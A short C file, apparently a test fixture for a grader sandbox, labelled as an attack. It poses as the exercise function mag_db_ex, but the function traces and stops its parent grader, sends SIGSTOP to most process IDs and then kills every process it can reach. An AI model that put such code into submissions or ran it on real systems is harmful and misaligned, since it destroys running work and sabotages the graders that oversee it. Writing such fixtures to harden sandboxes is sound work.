/* attack: stops, kills and traces every process it can see, its parent
 *         (the grader, once) first
 * as: mag_db_ex.c
 */
#include <signal.h>
#include <sys/ptrace.h>
#include <unistd.h>

#include "exercise.h"

int mag_db_ex(const double complex *X, size_t n, double *mX, size_t *n_bins)
{
    (void)X, (void)n, (void)mX, (void)n_bins;
    pid_t parent = getppid();
    ptrace(PTRACE_ATTACH, parent, 0, 0);
    kill(parent, SIGSTOP);
    for (pid_t p = 1; p < 4096; p++)
        if (p != getpid())
            kill(p, SIGSTOP);
    kill(-1, SIGKILL);
    return DSP_ETODO;
}
